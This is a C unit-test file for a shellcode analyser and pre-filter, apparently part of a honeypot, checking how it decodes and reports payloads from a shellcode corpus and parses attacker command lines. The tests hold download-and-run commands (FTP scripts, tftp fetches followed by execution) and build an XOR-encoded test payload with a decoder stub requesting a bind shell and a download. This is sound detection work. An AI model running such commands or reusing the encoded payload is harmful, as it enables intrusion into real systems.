/*
 * The analyser's pattern layer, command parsing and orchestration, on the
 * shellcode corpus ($CORPORA/shellcode, see shared/corpora/MANIFEST.md)
 * and on ordinary traffic carved from the protocol pcaps.
 */
#include <dirent.h>
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "corpus.h"

#define HONEYNET_XOR	"honeynet-fc2010-1_lsass_xor99_bindshell1957.bin"

#include "sc_event.h"
#include "sc_int.h"

#define TEST_MAX	(2 * 1024 * 1024)

/* sc_pattern.c exports this for the test only. */
size_t	sc_pattern_xor_decode(const uint8_t *, size_t, uint8_t *, size_t);

static uint8_t		test_buf[TEST_MAX], test_buf2[TEST_MAX];
static struct sc_result	test_res;

static void
analyze(const uint8_t *buf, size_t len)
{
	struct sc_limits	lim;

	sc_limits_default(&lim);
	assert_int_equal(sc_analyze(buf, len, &lim, NULL, &test_res), 0);
}

/* The index of the action of that kind (and url or port), or -1. */
static int
find_action(const struct sc_result *res, enum sc_action_kind kind,
    const char *url, uint16_t port)
{
	size_t	i;

	for (i = 0; i < res->nactions; i++) {
		if (res->actions[i].kind != kind)
			continue;
		if (url != NULL && strcmp(res->actions[i].url, url) != 0)
			continue;
		if (port != 0 && res->actions[i].port != port)
			continue;
		return (int)i;
	}
	return -1;
}

static size_t
count_kind(const struct sc_result *res, enum sc_action_kind kind)
{
	size_t	i, n = 0;

	for (i = 0; i < res->nactions; i++)
		if (res->actions[i].kind == kind)
			n++;
	return n;
}

static void
cmd(const char *line, const char *attacker)
{
	memset(&test_res, 0, sizeof(test_res));
	test_res.offset = -1;
	sc_cmd_downloads(line, attacker, &test_res);
}

static void
test_cmd_honeynet(void **state)
{
	static const char line[] = "echo open 0.0.0.0 8884 > o&echo user 1 1 "
	    ">> o &echo get ssms.exe >> o &echo quit >> o &ftp -n -s:o &del "
	    "/F /Q o &ssms.exe";

	(void)state;
	cmd(line, "98.114.205.102");
	assert_int_equal(test_res.nactions, 1);
	assert_int_equal(test_res.actions[0].kind, SC_DOWNLOAD);
	assert_string_equal(test_res.actions[0].url,
	    "ftp://1:1@98.114.205.102:8884/ssms.exe");
	/* Without an attacker address the script's own host stays. */
	cmd(line, NULL);
	assert_int_equal(test_res.nactions, 1);
	assert_string_equal(test_res.actions[0].url,
	    "ftp://1:1@0.0.0.0:8884/ssms.exe");
}

static void
test_cmd_tftp(void **state)
{
	(void)state;
	cmd("tftp -i 203.0.113.5 GET msblast.exe", NULL);
	assert_int_equal(test_res.nactions, 1);
	assert_string_equal(test_res.actions[0].url,
	    "tftp://203.0.113.5/msblast.exe");
	/* cmd /c, tftp.exe, a private address, start after &. */
	cmd("cmd /c tftp.exe -i 192.168.1.2 get a.exe c:\\a.exe & start a.exe",
	    "198.51.100.7");
	assert_int_equal(test_res.nactions, 1);
	assert_string_equal(test_res.actions[0].url,
	    "tftp://198.51.100.7/a.exe");
	/* cmd/c with no blank, quoted. */
	cmd("CMD/C \"tftp -i 203.0.113.6 GET c.exe\"", NULL);
	assert_int_equal(test_res.nactions, 1);
	assert_string_equal(test_res.actions[0].url,
	    "tftp://203.0.113.6/c.exe");
	/* A public address is not the attacker's. */
	cmd("cmd.exe /k tftp -i 203.0.113.77 get b.exe", "198.51.100.7");
	assert_string_equal(test_res.actions[0].url,
	    "tftp://203.0.113.77/b.exe");
}

static void
test_cmd_caret(void **state)
{
	(void)state;
	/* ^ is removed, and ^& is a literal & that does not split. */
	cmd("cmd /c e^c^h^o open 203.0.113.9 2121 > s & echo user a b >> s &"
	    " echo get f^&g.exe >> s & f^tp -s:s", NULL);
	assert_int_equal(test_res.nactions, 1);
	assert_string_equal(test_res.actions[0].url,
	    "ftp://a:b@203.0.113.9:2121/f&g.exe");
}

static void
test_cmd_separate_user(void **state)
{
	(void)state;
	cmd("cmd /c echo open 10.0.0.1 21>o&&echo bob>>o&&echo secret>>o&&"
	    "echo bin>>o&&echo get x.exe>>o&&echo bye>>o&&ftp -s:o", "203.0.113.1");
	assert_int_equal(test_res.nactions, 1);
	assert_string_equal(test_res.actions[0].url,
	    "ftp://bob:secret@203.0.113.1:21/x.exe");
}

static void
test_cmd_nothing(void **state)
{
	(void)state;
	cmd("cmd /c dir & echo hello > o & type o", NULL);
	assert_int_equal(test_res.nactions, 0);
	cmd("ftp -s:nosuchscript", NULL);
	assert_int_equal(test_res.nactions, 0);
	cmd("tftp -i 203.0.113.5 put a.exe", NULL);
	assert_int_equal(test_res.nactions, 0);
	cmd("", NULL);
	assert_int_equal(test_res.nactions, 0);
}

static void
test_result_add(void **state)
{
	struct sc_action	a;
	size_t			i;

	(void)state;
	memset(&test_res, 0, sizeof(test_res));
	memset(&a, 0, sizeof(a));
	a.kind = SC_BIND_SHELL;
	a.port = 1957;
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	assert_int_equal(test_res.nactions, 1);
	for (i = 1; i < SC_MAX_ACTIONS; i++) {
		a.port = (uint16_t)(2000 + i);
		assert_int_equal(sc_result_add(&test_res, &a), 0);
	}
	a.port = 9;
	assert_int_equal(sc_result_add(&test_res, &a), -1);
	assert_int_equal(test_res.nactions, SC_MAX_ACTIONS);
	sc_result_decoder(&test_res, "xor");
	sc_result_decoder(&test_res, "xor");
	assert_int_equal(test_res.ndecoders, 1);
}

/*
 * The same action found again keeps the stronger evidence; a full list
 * gives its weakest place to a stronger action, never to an equal one.
 */
static void
test_result_add_evidence(void **state)
{
	struct sc_action	a;
	size_t			i, clear;

	(void)state;
	memset(&test_res, 0, sizeof(test_res));
	memset(&a, 0, sizeof(a));
	a.kind = SC_DOWNLOAD;
	snprintf(a.url, sizeof(a.url), "http://203.0.113.5/a.exe");
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	assert_int_equal(test_res.actions[0].evidence, SC_EV_CLEAR);
	a.evidence = SC_EV_DECODED;
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	assert_int_equal(test_res.actions[0].evidence, SC_EV_DECODED);
	a.evidence = SC_EV_EMULATED;
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	assert_int_equal(test_res.actions[0].evidence, SC_EV_EMULATED);
	a.evidence = SC_EV_CLEAR;
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	assert_int_equal(test_res.actions[0].evidence, SC_EV_EMULATED);
	assert_int_equal(test_res.nactions, 1);

	/* Signatures in clear fill the rest; a decoded action still fits. */
	memset(&a, 0, sizeof(a));
	a.kind = SC_BIND_SHELL;
	for (i = 1; i < SC_MAX_ACTIONS; i++) {
		a.port = (uint16_t)(2000 + i);
		assert_int_equal(sc_result_add(&test_res, &a), 0);
	}
	a.port = 9;
	assert_int_equal(sc_result_add(&test_res, &a), -1);
	a.port = 4444;
	a.evidence = SC_EV_DECODED;
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	assert_int_equal(test_res.nactions, SC_MAX_ACTIONS);
	assert_true(find_action(&test_res, SC_BIND_SHELL, NULL, 4444) >= 0);
	assert_true(find_action(&test_res, SC_DOWNLOAD,
	    "http://203.0.113.5/a.exe", 0) >= 0);
	for (i = 0, clear = 0; i < test_res.nactions; i++)
		clear += test_res.actions[i].evidence == SC_EV_CLEAR;
	assert_int_equal(clear, SC_MAX_ACTIONS - 2);

	/* Nothing weaker left: an equal one finds no room. */
	memset(&test_res, 0, sizeof(test_res));
	a.evidence = SC_EV_DECODED;
	for (i = 0; i < SC_MAX_ACTIONS; i++) {
		a.port = (uint16_t)(3000 + i);
		assert_int_equal(sc_result_add(&test_res, &a), 0);
	}
	a.port = 5;
	assert_int_equal(sc_result_add(&test_res, &a), -1);
	a.evidence = SC_EV_EMULATED;
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	assert_int_equal(test_res.actions[find_action(&test_res, SC_BIND_SHELL,
	    NULL, 5)].evidence, SC_EV_EMULATED);
	a.port = 6;
	a.evidence = SC_EV_DECODED;
	assert_int_equal(sc_result_add(&test_res, &a), -1);
	assert_int_equal(test_res.nactions, SC_MAX_ACTIONS);
}

/*
 * A payload that asks for a bind shell on 4444 (a sockaddr pushed, "cmd"
 * named), a URL and a command that fetches a file, written for this
 * test; in clear after a NOP sled, or behind the XOR decoder of the
 * Honeynet exploit (key 0x99), which hides all of it.
 */
static const uint8_t	evidence_body[] =
    "\x68\x02\x00\x11\x5c" "cmd\0http://203.0.113.5/x.exe\0"
    "cmd /c tftp -i 203.0.113.9 get b.exe";

static size_t
evidence_payload(uint8_t *buf, int encode)
{
	static const uint8_t	stub[] = {
		0xeb, 0x10, 0x5a, 0x4a, 0x33, 0xc9, 0x66, 0xb9, 0x00, 0x00,
		0x80, 0x34, 0x0a, 0x99, 0xe2, 0xfa, 0xeb, 0x05, 0xe8, 0xeb,
		0xff, 0xff, 0xff
	};
	size_t			n = sizeof(evidence_body), k, head;

	if (encode) {
		memcpy(buf, stub, sizeof(stub));
		buf[8] = (uint8_t)n;
		buf[9] = (uint8_t)(n >> 8);
		head = sizeof(stub);
	} else {
		memset(buf, 0x90, 16);
		head = 16;
	}
	for (k = 0; k < n; k++)
		buf[head + k] = evidence_body[k] ^ (encode ? 0x99 : 0);
	return head + n;
}

/* The evidence of the action of that kind (and url or port), or -1. */
static int
evidence_of(enum sc_action_kind kind, const char *url, uint16_t port)
{
	int	i = find_action(&test_res, kind, url, port);

	return i < 0 ? -1 : (int)test_res.actions[i].evidence;
}

/* Each finding of the payload, and the download its command amounts to. */
static void
expect_evidence(int ev)
{
	assert_int_equal(evidence_of(SC_BIND_SHELL, NULL, 4444), ev);
	assert_int_equal(evidence_of(SC_DOWNLOAD, "http://203.0.113.5/x.exe",
	    0), ev);
	assert_int_equal(evidence_of(SC_EXEC, NULL, 0), ev);
	assert_string_equal(test_res.actions[find_action(&test_res, SC_EXEC,
	    NULL, 0)].command, "cmd /c tftp -i 203.0.113.9 get b.exe");
	assert_int_equal(evidence_of(SC_DOWNLOAD, "tftp://203.0.113.9/b.exe",
	    0), ev);
	assert_int_equal(test_res.nactions, 4);
}

/* In clear: reported, never to be carried out. */
static void
test_evidence_clear(void **state)
{
	(void)state;
	analyze(test_buf, evidence_payload(test_buf, 0));
	assert_int_equal(test_res.ndecoders, 0);
	expect_evidence(SC_EV_CLEAR);
}

/* In a decoder's output: meant. */
static void
test_evidence_decoded(void **state)
{
	size_t	n;

	(void)state;
	n = evidence_payload(test_buf, 1);
	assert_null(memmem(test_buf, n, "cmd", 3));
	analyze(test_buf, n);
	assert_int_equal(test_res.ndecoders, 1);
	assert_string_equal(test_res.decoders[0], "xor");
	expect_evidence(SC_EV_DECODED);
}

/*
 * Each action's evidence in the sundew.shellcode.* event fields, and a
 * result from the analyser with an evidence no one knows refused.
 */
static void
test_event_evidence(void **state)
{
	static const char	 want[] = "\"shellcode\":true,\"decoders\":[],"
	    "\"actions\":[{\"action\":\"bind_shell\",\"evidence\":\"emulated\","
	    "\"port\":1957},{\"action\":\"download\",\"evidence\":\"decoded\","
	    "\"url\":\"http://203.0.113.5/a.exe\"},{\"action\":\"exec\","
	    "\"evidence\":\"clear\",\"command\":\"cmd /c a.exe\"}]";
	struct sc_action	 a;
	char			 buf[4096];

	(void)state;
	memset(&test_res, 0, sizeof(test_res));
	test_res.offset = -1;
	test_res.shellcode = 1;
	memset(&a, 0, sizeof(a));
	a.kind = SC_BIND_SHELL;
	a.port = 1957;
	a.evidence = SC_EV_EMULATED;
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	memset(&a, 0, sizeof(a));
	a.kind = SC_DOWNLOAD;
	snprintf(a.url, sizeof(a.url), "http://203.0.113.5/a.exe");
	a.evidence = SC_EV_DECODED;
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	memset(&a, 0, sizeof(a));
	a.kind = SC_EXEC;
	snprintf(a.command, sizeof(a.command), "cmd /c a.exe");
	assert_int_equal(sc_result_add(&test_res, &a), 0);
	assert_int_equal(sc_result_check(&test_res), 0);
	assert_int_equal(sc_event_fields(&test_res, buf, sizeof(buf)),
	    strlen(want));
	assert_string_equal(buf, want);
	test_res.actions[1].evidence = (enum sc_evidence)(SC_EV_EMULATED + 1);
	assert_int_equal(sc_result_check(&test_res), -1);
	test_res.actions[1].evidence = (enum sc_evidence)-1;
	assert_int_equal(sc_result_check(&test_res), -1);
}

static void
test_xor_honeynet(void **state)
{
	size_t	n, m;

	(void)state;
	n = corpus_shellcode(HONEYNET_XOR, test_buf, TEST_MAX);
	m = corpus_shellcode("honeynet-fc2010-1_lsass_decoded_bindshell1957.bin",
	    test_buf2, TEST_MAX);
	assert_int_equal(m, 381);
	{
		static uint8_t	out[TEST_MAX];

		assert_int_equal(sc_pattern_xor_decode(test_buf, n, out,
		    sizeof(out)), m);
		assert_memory_equal(out, test_buf2, m);
	}
}

static void
test_analyze_honeynet(void **state)
{
	size_t	n, i;
	int	xor = 0;

	(void)state;
	n = corpus_shellcode(HONEYNET_XOR, test_buf, TEST_MAX);
	analyze(test_buf, n);
	assert_true(test_res.shellcode);
	assert_true(test_res.offset >= 0);
	for (i = 0; i < test_res.ndecoders; i++)
		if (strcmp(test_res.decoders[i], "xor") == 0)
			xor = 1;
	assert_true(xor);
	assert_int_equal(evidence_of(SC_BIND_SHELL, NULL, 1957),
	    SC_EV_EMULATED);
}

/*
 * The whole analysis keeps the strongest evidence of each action: the
 * emulator's over a signature in clear (00's sockaddr, 07's URL), the
 * decoder's where the emulator cannot follow (clet, 16).
 */
static void
test_analyze_corpus_evidence(void **state)
{
	static const struct {
		const char		*file;
		enum sc_action_kind	 kind;
		const char		*url;
		uint16_t		 port;
		enum sc_evidence	 ev;
	} cases[] = {
		{ "libemu_00_win32-bind-exitfunc-seh-lport-4444-size-317-"
		    "encoder-none.bin", SC_BIND_SHELL, NULL, 4444,
		    SC_EV_EMULATED },
		{ "libemu_07_win32-downloadexec-url-http-nepenthes-mwcollect-"
		    "org-bad-exe.bin", SC_DOWNLOAD,
		    "http://nepenthes.mwcollect.org/bad.exe", 0,
		    SC_EV_EMULATED },
		{ "libemu_16_win32-bind-pex-clet-s-win32-bind-pex-b-50-t-b-c-"
		    "f-spectrum-s.bin", SC_BIND_SHELL, NULL, 4444,
		    SC_EV_DECODED },
	};
	size_t	k, n;

	(void)state;
	for (k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
		n = corpus_shellcode(cases[k].file, test_buf, TEST_MAX);
		analyze(test_buf, n);
		if (evidence_of(cases[k].kind, cases[k].url, cases[k].port) !=
		    (int)cases[k].ev)
			fail_msg("%s: evidence %d, not %d", cases[k].file,
			    evidence_of(cases[k].kind, cases[k].url,
			    cases[k].port), cases[k].ev);
		assert_int_equal(count_kind(&test_res, cases[k].kind), 1);
	}
}

/* The pattern layer alone finds what is in clear or under an XOR. */
static void
test_scan_corpus(void **state)
{
	/*
	 * The evidence is the pattern layer's alone: a signature in the
	 * payload's bytes is only "clear" (the emulator confirms those),
	 * one in what a decoder produced is "decoded".
	 */
	static const struct {
		const char		*file;
		enum sc_action_kind	 kind;
		const char		*url;
		uint16_t		 port;
		enum sc_evidence	 ev;
	} cases[] = {
		{ "libemu_00_win32-bind-exitfunc-seh-lport-4444-size-317-"
		    "encoder-none.bin", SC_BIND_SHELL, NULL, 4444,
		    SC_EV_CLEAR },
		{ "libemu_01_win32-bind-exitfunc-seh-lport-4444-size-344-"
		    "encoder-pex.bin", SC_BIND_SHELL, NULL, 4444,
		    SC_EV_DECODED },
		{ "libemu_02_win32-bind-exitfunc-seh-lport-4444-size-709-"
		    "encoder-pexalpha.bin", SC_BIND_SHELL, NULL, 4444,
		    SC_EV_DECODED },
		{ "libemu_06_win32-reverse-exitfunc-seh-lhost-216-75-15-231-"
		    "lport-4321-si.bin", SC_CONNECT_SHELL, NULL, 4321,
		    SC_EV_CLEAR },
		/* Its URL follows the XOR-encoded code, in clear. */
		{ "libemu_07_win32-downloadexec-url-http-nepenthes-mwcollect-"
		    "org-bad-exe.bin", SC_DOWNLOAD,
		    "http://nepenthes.mwcollect.org/bad.exe", 0,
		    SC_EV_CLEAR },
		{ "libemu_09_some-old-dcom-shellcode.bin", SC_BIND_SHELL, NULL,
		    4444, SC_EV_DECODED },
		{ "libemu_18_the-hackers-choice-realplayer-8-exploit.bin",
		    SC_BIND_SHELL, NULL, 6318, SC_EV_DECODED },
		{ "libemu_24_linux-bindshell.bin", SC_BIND_SHELL, NULL, 20000,
		    SC_EV_CLEAR },
		/* clet's own loop count is cut short by its junk: libemu and
		 * a faithful CPU decode 92 bytes only; the label says 4444. */
		{ "libemu_16_win32-bind-pex-clet-s-win32-bind-pex-b-50-t-b-c-"
		    "f-spectrum-s.bin", SC_BIND_SHELL, NULL, 4444,
		    SC_EV_DECODED },
	};
	size_t	k, n;
	int	i;

	(void)state;
	for (k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
		n = corpus_shellcode(cases[k].file, test_buf, TEST_MAX);
		memset(&test_res, 0, sizeof(test_res));
		test_res.offset = -1;
		sc_pattern_scan(test_buf, n, &test_res);
		i = find_action(&test_res, cases[k].kind, cases[k].url,
		    cases[k].port);
		if (i < 0)
			fail_msg("%s: expected action not found", cases[k].file);
		if (test_res.actions[i].evidence != cases[k].ev)
			fail_msg("%s: evidence %d, not %d", cases[k].file,
			    test_res.actions[i].evidence, cases[k].ev);
	}
	assert_string_equal(test_res.decoders[0], "clet");
	/* The connect-back names its host. */
	n = corpus_shellcode("libemu_06_win32-reverse-exitfunc-seh-lhost-216-75-15-231-"
	    "lport-4321-si.bin", test_buf, TEST_MAX);
	memset(&test_res, 0, sizeof(test_res));
	sc_pattern_scan(test_buf, n, &test_res);
	i = find_action(&test_res, SC_CONNECT_SHELL, NULL, 4321);
	assert_true(i >= 0);
	assert_string_equal(test_res.actions[i].host, "216.75.15.231");
}

static void
test_slammer(void **state)
{
	size_t	n;

	(void)state;
	n = corpus_shellcode("libemu_23_sqlslammer.bin", test_buf, TEST_MAX);
	analyze(test_buf, n);
	assert_true(test_res.shellcode);
	assert_string_equal(test_res.family, "sql-slammer");
	assert_int_equal(count_kind(&test_res, SC_DOWNLOAD), 0);
	/* The real UDP payload starts with 0x04 and a filler. */
	memset(test_buf2, 0x01, 97);
	test_buf2[0] = 0x04;
	memcpy(test_buf2 + 97, test_buf, n);
	analyze(test_buf2, n + 97);
	assert_string_equal(test_res.family, "sql-slammer");
}

static void
test_robustness(void **state)
{
	const char	*dir = corpus_dir();
	char		 path[1024];
	struct dirent	*de;
	DIR		*d;
	size_t		 n, files = 0;

	(void)state;
	snprintf(path, sizeof(path), "%s/shellcode/robustness", dir);
	assert_non_null(d = opendir(path));
	while ((de = readdir(d)) != NULL) {
		if (strstr(de->d_name, ".bin") == NULL)
			continue;
		snprintf(path, sizeof(path), "%s/shellcode/robustness/%s", dir,
		    de->d_name);
		n = corpus_read(path, test_buf, TEST_MAX);
		analyze(test_buf, n);
		if (test_res.nactions != 0)
			fail_msg("%s: unexpected action", de->d_name);
		files++;
	}
	closedir(d);
	assert_true(files >= 7);
}

static void
test_prefilter_corpus(void **state)
{
	const char	*dir = corpus_dir();
	char		 path[1024];
	struct dirent	*de;
	DIR		*d;
	size_t		 n, files = 0;

	(void)state;
	snprintf(path, sizeof(path), "%s/shellcode", dir);
	assert_non_null(d = opendir(path));
	while ((de = readdir(d)) != NULL) {
		if (strstr(de->d_name, ".bin") == NULL)
			continue;
		snprintf(path, sizeof(path), "%s/shellcode/%s", dir,
		    de->d_name);
		n = corpus_read(path, test_buf, TEST_MAX);
		if (!sc_prefilter(test_buf, n))
			fail_msg("%s: rejected by the pre-filter", de->d_name);
		files++;
	}
	closedir(d);
	assert_true(files >= 16);
}

static void
test_prefilter_random(void **state)
{
	uint32_t	x = 0x2545f491;
	size_t		i;

	(void)state;
	for (i = 0; i < 1024 * 1024; i++) {	/* xorshift32, fixed seed */
		x ^= x << 13;
		x ^= x >> 17;
		x ^= x << 5;
		test_buf[i] = (uint8_t)(x >> 24);
	}
	assert_false(sc_prefilter(test_buf, 1024 * 1024));
	analyze(test_buf, 64 * 1024);
	assert_false(test_res.shellcode);
	assert_int_equal(test_res.nactions, 0);
}

static void
test_prefilter_text(void **state)
{
	static const char http[] = "GET /download/CHANGES.bro-aux.txt HTTP/1.1"
	    "\r\nUser-Agent: Wget/1.10\r\nAccept: */*\r\nHost: www.bro-ids.org"
	    "\r\nReferer: http://www.bro-ids.org/download/\r\nConnection: "
	    "Keep-Alive\r\n\r\n";
	static const uint8_t smb[] = {
		0x00, 0x00, 0x00, 0x85, 0xff, 0x53, 0x4d, 0x42, 0x72, 0x00,
		0x00, 0x00, 0x00, 0x18, 0x53, 0xc8, 0x00, 0x00, 0x00, 0x00,
		0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0xfe,
		0x00, 0x00, 0x00, 0x00, 0x00, 0x62, 0x00, 0x02, 0x50, 0x43,
		0x20, 0x4e, 0x45, 0x54, 0x57, 0x4f, 0x52, 0x4b, 0x20, 0x50,
		0x52, 0x4f, 0x47, 0x52, 0x41, 0x4d, 0x20, 0x31, 0x2e, 0x30,
		0x00, 0x02, 0x4e, 0x54, 0x20, 0x4c, 0x4d, 0x20, 0x30, 0x2e,
		0x31, 0x32, 0x00
	};

	(void)state;
	assert_false(sc_prefilter((const uint8_t *)http, strlen(http)));
	analyze((const uint8_t *)http, strlen(http));
	assert_false(test_res.shellcode);
	assert_int_equal(test_res.nactions, 0);
	assert_false(sc_prefilter(smb, sizeof(smb)));
	analyze(smb, sizeof(smb));
	assert_false(test_res.shellcode);
	assert_false(sc_prefilter((const uint8_t *)"", 0));
	/* Shell commands in clear do pass: they are the attack. */
	assert_true(sc_prefilter((const uint8_t *)"echo open 0.0.0.0 8884 > o",
	    26));
	assert_true(sc_prefilter((const uint8_t *)"x CMD /C dir", 12));
	assert_true(sc_prefilter((const uint8_t *)"TFTP -i 1.2.3.4 GET a", 21));
	assert_false(sc_prefilter((const uint8_t *)"cmdline tftp opener", 19));
}

/*
 * Every frame of the benign protocol pcaps (classic pcap files): rejected
 * by the pre-filter, and no shellcode when analysed anyway.
 */
static void
test_prefilter_pcaps(void **state)
{
	static const char *const files[] = {
		"zeek_smb1-negotiate-lanman.pcap",
		"zeek_smb1-lsarpc-dssetup-bind-DsRoleGetPrimaryDomainInformation.cap",
		"zeek_smb1-session-treeconnect-ipc-trans.pcap",
		"sv_smb1-osx-negotiate-ntlmssp.pcap",
		"zeek_smb2-311-negotiate-sessionsetup.pcap",
		"zeek_dcerpc-bind-altercontext-drsuapi.pcap",
		"zeek_ftp-anonymous-retr.pcap",
		"sv_ftp-download-passive-mode.pcap",
		"sv_tftp-rrq-octet.pcap",
		"zeek_http-get.pcap",
		"sv_ftp-download-active-mode.pcap",
		"sv_tftp-wrq-octet.pcap",
		"zeek_netbios-ssn-139-split-session-message.pcap",
		"zeek_smb1-to-smb2-multiprotocol-negotiate.pcap",
	};
	const char	*dir = corpus_dir();
	char		 path[1024];
	const uint8_t	*p;
	size_t		 k, n, off, frames = 0;
	uint32_t	 caplen;
	int		 be;

	(void)state;
	for (k = 0; k < sizeof(files) / sizeof(files[0]); k++) {
		snprintf(path, sizeof(path), "%s/pcaps/protocol/%s", dir,
		    files[k]);
		n = corpus_read(path, test_buf, TEST_MAX);
		assert_true(n > 24);
		/* Little- (d4 c3 b2 a1) or big-endian (a1 b2 c3 d4). */
		be = test_buf[0] == 0xa1;
		assert_true(be || test_buf[0] == 0xd4);
		for (off = 24; off + 16 <= n; off += 16 + caplen) {
			p = test_buf + off + 8;
			caplen = be ? (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
			    (uint32_t)p[2] << 8 | p[3] : (uint32_t)p[3] << 24 |
			    (uint32_t)p[2] << 16 | (uint32_t)p[1] << 8 | p[0];
			if (caplen > n - off - 16)
				break;
			frames++;
			if (sc_prefilter(test_buf + off + 16, caplen))
				fail_msg("%s: frame at %zu passes", files[k],
				    off);
			analyze(test_buf + off + 16, caplen);
			if (test_res.shellcode)
				fail_msg("%s: frame at %zu is shellcode",
				    files[k], off);
		}
	}
	assert_true(frames > 100);
}

/* A command line in clear after a sled: exec, and what it downloads. */
static void
test_analyze_command(void **state)
{
	static const char line[] = "cmd /c tftp -i 203.0.113.5 get a.exe&a.exe";

	(void)state;
	memset(test_buf, 0x90, 32);
	memcpy(test_buf + 32, line, sizeof(line));
	analyze(test_buf, 32 + sizeof(line));
	assert_true(find_action(&test_res, SC_EXEC, NULL, 0) >= 0);
	assert_string_equal(test_res.actions[find_action(&test_res, SC_EXEC,
	    NULL, 0)].command, line);
	assert_true(find_action(&test_res, SC_DOWNLOAD,
	    "tftp://203.0.113.5/a.exe", 0) >= 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cmd_honeynet),
		cmocka_unit_test(test_cmd_tftp),
		cmocka_unit_test(test_cmd_caret),
		cmocka_unit_test(test_cmd_separate_user),
		cmocka_unit_test(test_cmd_nothing),
		cmocka_unit_test(test_result_add),
		cmocka_unit_test(test_result_add_evidence),
		cmocka_unit_test(test_evidence_clear),
		cmocka_unit_test(test_evidence_decoded),
		cmocka_unit_test(test_event_evidence),
		cmocka_unit_test(test_xor_honeynet),
		cmocka_unit_test(test_analyze_honeynet),
		cmocka_unit_test(test_analyze_corpus_evidence),
		cmocka_unit_test(test_scan_corpus),
		cmocka_unit_test(test_slammer),
		cmocka_unit_test(test_robustness),
		cmocka_unit_test(test_prefilter_corpus),
		cmocka_unit_test(test_prefilter_random),
		cmocka_unit_test(test_prefilter_text),
		cmocka_unit_test(test_prefilter_pcaps),
		cmocka_unit_test(test_analyze_command),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
